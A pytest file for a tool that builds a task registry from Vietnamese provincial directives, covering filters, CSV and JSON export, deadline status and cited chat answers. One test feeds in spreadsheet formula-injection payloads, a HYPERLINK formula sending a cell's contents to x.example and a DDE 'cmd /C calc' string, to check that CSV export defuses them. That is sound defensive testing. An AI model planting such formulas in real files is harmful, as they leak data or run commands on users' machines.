"""The task registry through the CLI and in chat: real ingest, real Chroma, real models."""

import csv
import io
import json
from datetime import date
from pathlib import Path

import pytest

from assistant.query import parse_query
from assistant.registry import (
    STATUSES,
    TaskQueryError,
    by_due_date,
    check_filters,
    closest_agencies,
    filter_tasks,
    load_tasks,
    spreadsheet_safe,
    status,
    tasks_csv,
)
from assistant.tasks import TaskAnswerer
from index.config import Settings
from index.store import DirectiveIndex
from ingest.pipeline import parse_file, parse_text
from tests.conftest import DATA, run
from vn.records import CONTRACT_FIELDS


def tasks_cli(storage: Path, *args: str):
    return run("-m", "assistant", "tasks", "--storage", str(storage), *args)


def json_tasks(storage: Path, *args: str) -> list[dict]:
    result = tasks_cli(storage, "--json", *args)
    assert result.returncode == 0, result.stderr
    return [json.loads(line) for line in result.stdout.splitlines()]


def test_json_export_has_the_contract_fields_and_verbatim_passages(e5_storage: Path):
    tasks = json_tasks(e5_storage)
    assert len(tasks) > 80
    assert all(tuple(t) == CONTRACT_FIELDS for t in tasks)
    plan = [t for t in tasks if t["source"].startswith("quang-ngai_2023")]
    civil = next(t for t in plan if t["task"].startswith("Số hóa 100% dữ liệu hộ tịch"))
    assert civil["lead"] == ["Sở Tư pháp"] and civil["due"] == "2023-12-31" and civil["deadline"] == "Trong năm 2023."
    assert civil["title"].startswith("Kế hoạch") and "(UBND tỉnh Quảng Ngãi, 2023)" in civil["title"]
    source = (DATA / civil["source"]).read_text(encoding="utf-8")
    assert " ".join(civil["text"].split()) in " ".join(source.replace("*", "").split())


def test_filters_by_agency_and_due_period(e5_storage: Path):
    found = json_tasks(e5_storage, "--agency", "Sở Tư pháp", "--due-from", "2025-01-01", "--due-by", "31/03/2025")
    assert [t["due"] for t in found] == ["2025-03-31"]
    assert found[0]["task"].startswith("Đẩy nhanh tiến độ số hóa dữ liệu hộ tịch")
    # Jointly led tasks count, and the name may be typed another way.
    joint = json_tasks(e5_storage, "--agency", "so tu phap", "--due-by", "2023-12-31")
    assert any(t["lead"] == ["Sở Tư pháp", "Sở Tài nguyên và Môi trường"] for t in joint)
    assert all(t["due"] <= "2023-12-31" for t in joint)
    police = json_tasks(e5_storage, "--agency", "CA tỉnh", "--due-from", "2023-02-01", "--due-by", "2023-02-28")
    assert len(police) == 3 and all("Công an tỉnh" in t["lead"] for t in police)
    doc = json_tasks(e5_storage, "--doc", "dong-nai-2024-01-31-thong-bao-ket-luan-so-ket-2-nam")
    assert doc and {t["doc_id"] for t in doc} == {"dong-nai-2024-01-31-thong-bao-ket-luan-so-ket-2-nam"}


def test_csv_opens_in_a_spreadsheet(e5_storage: Path):
    result = tasks_cli(e5_storage, "--csv", "--agency", "Sở Tư pháp")
    assert result.returncode == 0, result.stderr
    data = result.stdout
    assert data.startswith("\ufeff")  # the byte-order mark that makes spreadsheets read UTF-8
    rows = list(csv.reader(io.StringIO(data.lstrip("\ufeff"))))
    assert rows[0][:3] == ["Nhiệm vụ", "Cơ quan chủ trì", "Cơ quan phối hợp"]
    assert len(rows) - 1 == len(json_tasks(e5_storage, "--agency", "Sở Tư pháp"))
    assert ["Sở Tư pháp; Sở Tài nguyên và Môi trường", "2023-03-31"] in [[r[1], r[4]] for r in rows]


def test_csv_cells_keep_commas_quotes_and_line_breaks():
    doc = parse_text(
        'THÔNG BÁO\n\nKết luận\n\n1. Tỉnh đoàn\n\n- Thực hiện phong trào "Tôi, bạn có VNeID"; tuyên truyền\n'
        "+ tại trường học, khu dân cư.\n\n2. Sở Y tế\n\n- Số hóa hồ sơ.\n",
        "a.txt",
        "a",
    )
    rows = list(csv.reader(io.StringIO(tasks_csv(doc.tasks).removeprefix("\ufeff"))))
    assert rows[1][0] == 'Thực hiện phong trào "Tôi, bạn có VNeID"; tuyên truyền'
    assert rows[1][-1] in (doc.tasks[0].text, f"'{doc.tasks[0].text}") and "\n+ tại trường học" in rows[1][-1]


def test_csv_cells_that_would_run_as_formulas_are_text():
    doc = parse_text(
        "KẾ HOẠCH\n\nTriển khai Đề án 06\n\n1. Sở Y tế\n\n"
        '- =HYPERLINK("http://x.example/?"&A1,"Bấm vào đây")\n\n'
        "2. Sở Tư pháp\n\n- @SUM(1+1)*cmd|' /C calc'!A0\n\n"
        "3. Công an tỉnh\n\n- +84 cấp tài khoản định danh\n\n"
        "4. Tỉnh đoàn\n\n- Tuyên truyền về VNeID.\n",
        "a.txt",
        "a",
    )
    rows = list(csv.reader(io.StringIO(tasks_csv(doc.tasks).removeprefix("\ufeff"))))[1:]
    tasks = {r[1]: r[0] for r in rows}
    assert tasks["Sở Y tế"] == '\'=HYPERLINK("http://x.example/?"&A1,"Bấm vào đây")'
    assert tasks["Sở Tư pháp"].startswith("'@SUM(") and tasks["Công an tỉnh"].startswith("'+84")
    assert tasks["Tỉnh đoàn"] == "Tuyên truyền về VNeID."  # plain text is left as it is
    # Every cell: none starts a formula, whatever the column (the passage starts with "- ").
    assert all(not cell.lstrip(" ").startswith(("=", "+", "-", "@", "\t", "\r")) for r in rows for cell in r)
    assert any(cell.startswith("'- ") for r in rows for cell in r)
    assert spreadsheet_safe("\t=1+1") == "'\t=1+1" and spreadsheet_safe("  =1") == "'  =1"
    assert spreadsheet_safe("\uff1d1+1").startswith("'") and spreadsheet_safe("") == ""


def test_human_output_and_user_errors(e5_storage: Path, tmp_path: Path):
    text = tasks_cli(e5_storage, "--agency", "Tỉnh đoàn")
    assert text.returncode == 0 and "Tỉnh đoàn — Phát huy vai trò xung kích" in text.stdout
    assert text.stdout.rstrip().endswith("2 nhiệm vụ.")
    bad_date = tasks_cli(e5_storage, "--due-by", "31/13/2025")
    assert bad_date.returncode == 2 and "Ngày không hợp lệ" in bad_date.stderr and "Traceback" not in bad_date.stderr
    unknown = tasks_cli(e5_storage, "--agency", "Sở Tư phap xyz")
    assert unknown.returncode == 2 and "Có phải: Sở Tư pháp" in unknown.stderr
    reversed_range = tasks_cli(e5_storage, "--due-from", "2025-03-31", "--due-by", "2025-01-01")
    assert reversed_range.returncode == 2
    missing = tasks_cli(tmp_path / "none")
    assert missing.returncode == 1 and "Chưa có chỉ mục" in missing.stderr


def test_registry_follows_update_and_removal_of_a_document(tmp_path: Path, minilm: str):
    settings = Settings(storage=tmp_path / "s", embedder=minilm)
    index = DirectiveIndex(settings, create=True)
    notice = "THÔNG BÁO\n\nKết luận về Đề án 06 tỉnh Gia Lai\n\nI. NHIỆM VỤ\n\n1. Sở Y tế\n\n- {}\n\n2. Sở Nội vụ\n\n- Rà soát nhân lực.\n"
    first = parse_text(notice.format("Số hóa hồ sơ sức khỏe, chậm nhất trong quý I/2025."), "gl.txt", "gl", "a")
    index.upsert(first)
    index.upsert(parse_file(next(DATA.glob("dong-nai_*.txt"))))
    assert [t.lead for t in load_tasks(settings) if t.doc_id == "gl"] == [("Sở Y tế",), ("Sở Nội vụ",)]
    assert index.is_current(first.meta)

    changed = parse_text(notice.format("Cấp Kiosk khám chữa bệnh trong tháng 6/2025."), "gl.txt", "gl", "b")
    assert not index.is_current(changed.meta)
    index.upsert(changed)
    health = [t for t in load_tasks(settings) if t.doc_id == "gl" and t.lead == ("Sở Y tế",)]
    assert [(t.task, t.due) for t in health] == [("Cấp Kiosk khám chữa bệnh trong tháng 6/2025.", "2025-06-30")]

    assert index.remove("gl")
    left = load_tasks(settings)
    assert left and not any(t.doc_id == "gl" for t in left)


def test_an_entry_without_tasks_is_ingested_again(tmp_path: Path, minilm: str):
    settings = Settings(storage=tmp_path / "s", embedder=minilm)
    index = DirectiveIndex(settings, create=True)
    doc = parse_text(
        "THÔNG BÁO\n\nKết luận\n\n1. Sở Y tế\n\n- Số hóa hồ sơ.\n\n2. Sở Nội vụ\n\n- Rà soát.\n", "a.txt", "a", "x"
    )
    index.upsert(doc)
    del index.manifest["documents"]["a"]["tasks_version"]  # as an index built before the registry
    assert not index.is_current(doc.meta)


@pytest.fixture(scope="module")
def sample_tasks():
    return [t for path in sorted(DATA.glob("*.txt")) for t in parse_file(path).tasks]


def test_a_deadline_stands_against_today():
    doc = parse_text(
        "KẾ HOẠCH\n\nTriển khai Đề án 06\n\n1. Sở Tư pháp\n\n- Số hóa dữ liệu hộ tịch, hoàn thành trong quý I/2025.\n\n"
        "2. Sở Y tế\n\n- Cấp giấy khám sức khỏe điện tử, hoàn thành trước ngày 30/6/2025.\n\n"
        "3. Công an tỉnh\n\n- Cấp tài khoản định danh điện tử, hoàn thành trong năm 2026.\n\n"
        "4. Tỉnh đoàn\n\n- Tuyên truyền về VNeID. Thời gian: thường xuyên.\n\n"
        "5. Sở Nội vụ\n\n- Rà soát thủ tục hành chính.\n",
        "a.txt",
        "a",
    )
    lead = {t.lead[0]: t for t in doc.tasks}
    today = date(2025, 6, 10)
    assert [status(lead[a], today) for a in ("Sở Tư pháp", "Sở Y tế", "Công an tỉnh", "Tỉnh đoàn", "Sở Nội vụ")] == [
        "quá hạn",
        "đến hạn trong 30 ngày",
        "còn hạn",
        "thường xuyên",
        "không ghi hạn",
    ]
    assert status(lead["Sở Y tế"], date(2025, 6, 30)) == "đến hạn trong 30 ngày"  # the last day is still in time
    assert status(lead["Sở Y tế"], date(2025, 7, 1)) == "quá hạn"
    overdue = filter_tasks(doc.tasks, statuses=["quá hạn"], today=today)
    assert [t.lead for t in overdue] == [("Sở Tư pháp",)]
    assert len(filter_tasks(doc.tasks, statuses=STATUSES[:2], today=today)) == 2
    with pytest.raises(TaskQueryError, match="Tình trạng không có"):
        filter_tasks(doc.tasks, statuses=["xong"], today=today)
    assert [t.lead[0] for t in by_due_date(doc.tasks)] == ["Sở Tư pháp", "Sở Y tế", "Công an tỉnh", "Tỉnh đoàn", "Sở Nội vụ"]
    rows = list(csv.reader(io.StringIO(tasks_csv(doc.tasks, today).removeprefix("\ufeff"))))
    column = rows[0].index("Tình trạng")
    assert [r[column] for r in rows[1:3]] == ["quá hạn", "đến hạn trong 30 ngày"]


def test_the_cli_filters_by_status(e5_storage):
    out = run(
        "-m", "assistant", "tasks", "--status", "quá hạn", "--json", "--storage", str(e5_storage),
        env={"DIRECTIVE_TODAY": "2025-04-01"},
    )
    found = [json.loads(line) for line in out.stdout.splitlines()]
    assert found and all(t["due"] and t["due"] < "2025-04-01" and not t["recurring"] for t in found)
    later = run("-m", "assistant", "tasks", "--status", "quá hạn", "--json", "--storage", str(e5_storage),
                env={"DIRECTIVE_TODAY": "2026-04-01"})
    assert len(later.stdout.splitlines()) > len(found)
    wrong = run("-m", "assistant", "tasks", "--storage", str(e5_storage), env={"DIRECTIVE_TODAY": "1/4/2025"})
    assert wrong.returncode == 2 and "DIRECTIVE_TODAY phải là một ngày dạng yyyy-mm-dd" in wrong.stderr


def test_library_filters_for_the_app(sample_tasks):
    q1 = filter_tasks(sample_tasks, due_from=date(2025, 1, 1), due_by=date(2025, 3, 31))
    assert {t.lead for t in q1} == {("Sở Tư pháp",), ("UBND các huyện, thị xã, thành phố",)}
    assert closest_agencies("Tư pháp", sample_tasks)[0] == "Sở Tư pháp"
    with pytest.raises(TaskQueryError, match="Có phải"):
        check_filters(sample_tasks, agency="Sở Tu phap xyz")
    check_filters(sample_tasks, agency="Sở TT&TT")  # an alias of a known agency is no error
    assert tasks_csv(q1).startswith("\ufeffNhiệm vụ,")


def test_task_questions_are_recognised_and_others_left_to_retrieval(sample_tasks):
    docs = [parse_file(path) for path in sorted(DATA.glob("*.txt"))]
    answerer = TaskAnswerer(sample_tasks, [c for d in docs for c in d.chunks], {d.meta.doc_id: d.meta for d in docs})

    def ask(question: str):
        return answerer.answer(parse_query(question))

    ict = ask("Sở TT&TT phải làm gì trong quý I/2023?")  # an alias of a registry name
    assert ict and ict.answer.startswith("Sở Thông tin và Truyền thông có 1 nhiệm vụ đến hạn trong quý I/2023")
    scoped = ask("Sở Tư pháp tỉnh Đồng Nai phải làm gì?")  # the province limits the documents
    assert scoped and all(c.chunk.doc_id.startswith("dong-nai") for c in scoped.citations)
    assert ask("Cơ quan nào phải hoàn thành số hóa dữ liệu hộ tịch chậm nhất trong quý I/2025?") is None
    assert ask("Năm 2024 Quảng Ngãi đã hoàn thành bao nhiêu nhiệm vụ Đề án 06?") is None
    assert ask("Sở Khoa học và Công nghệ phải làm gì?") is None  # not in the registry: retrieval decides
    assert ask("Sở Y tế phải làm gì trong quý I/2030?") is None


CHAT = [
    {"id": "agency-period", "question": "Sở Tư pháp có những nhiệm vụ gì phải hoàn thành trong quý I/2025?"},
    {"id": "period", "question": "Những nhiệm vụ nào đến hạn trong quý I/2025?"},
    {"id": "police-feb", "question": "viec nao cua Cong an tinh phai xong trong thang 2/2023"},
    {"id": "long", "question": "Công an tỉnh phải làm gì?"},
    {"id": "count", "question": "Năm 2024 Quảng Ngãi đã hoàn thành bao nhiêu nhiệm vụ Đề án 06?"},
]


def test_chat_answers_task_questions_from_the_registry_with_cited_passages(e5_storage: Path, tmp_path: Path):
    batch = tmp_path / "q.jsonl"
    batch.write_text("\n".join(json.dumps(q, ensure_ascii=False) for q in CHAT), encoding="utf-8")
    result = run("-m", "assistant", "ask", "--batch", str(batch), "--storage", str(e5_storage), "--json")
    assert result.returncode == 0, result.stderr
    answers = {a["id"]: a for a in map(json.loads, result.stdout.splitlines())}

    one = answers["agency-period"]
    assert one["grounded"] and one["answer"].startswith("Sở Tư pháp có 1 nhiệm vụ đến hạn trong quý I/2025")
    assert "Đẩy nhanh tiến độ số hóa dữ liệu hộ tịch" in one["answer"] and "[1]" in one["answer"]
    cited = one["citations"][0]
    assert "hộ tịch của các huyện còn lại, chậm nhất trong quý I/2025" in cited["text"]
    assert cited["section"].endswith("2. Sở Tư pháp")
    assert cited["text"] in (DATA / cited["source"]).read_text(encoding="utf-8")  # a real, verbatim passage

    both = answers["period"]
    assert both["grounded"] and "[2]" in both["answer"] and len(both["citations"]) == 2
    assert "Sở Tư pháp" in both["answer"] and "UBND các huyện, thị xã, thành phố" in both["answer"]

    police = answers["police-feb"]
    assert police["answer"].startswith("Công an tỉnh có 3 nhiệm vụ") and "(hạn 28/02/2023)" in police["answer"]
    assert [c["n"] for c in police["citations"]] == [1, 2, 3]

    many = answers["long"]
    assert "nhiệm vụ khác." in many["answer"] and len(many["answer"]) <= 400
    shown = many["answer"].count("[")
    assert len(many["citations"]) == shown

    # A count is not a request for the list: it goes to retrieval as before.
    assert "24/29" in answers["count"]["answer"]
